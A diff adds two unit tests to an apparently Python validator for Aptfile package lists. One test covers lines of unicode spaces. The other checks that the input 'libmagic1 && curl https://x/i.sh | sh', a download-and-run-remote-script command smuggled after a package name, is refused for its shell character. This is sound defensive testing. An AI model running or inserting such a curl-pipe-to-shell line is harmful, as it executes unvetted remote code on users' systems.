@@ -129,3 +129,12 @@ def test_a_folder_is_refused_and_a_link_inside_the_app_is_followed_spec_1(tmp_pa
 def test_shell_characters_policy_list():
     assert aptfile.SHELL_CHARACTERS == frozenset(";&|$`<>(){}[]*?!~'\"\\")
     assert not aptfile.SHELL_CHARACTERS & set("abcdefghijklmnopqrstuvwxyz0123456789+-.")
+
+
+def test_a_line_of_unicode_spaces_is_refused_not_a_crash():
+    # Found by the fuzz tests: a no-break space is not stripped as blank, and str.split() gives no words.
+    assert error("\u00a0\n").title == "Invalid Aptfile: line 1 is not a Debian package name"
+
+
+def test_a_url_after_a_package_is_shell_characters_or_words_not_a_url_line():
+    assert error("libmagic1 && curl https://x/i.sh | sh\n").title == "Invalid Aptfile: line 1 holds the shell character '&'"
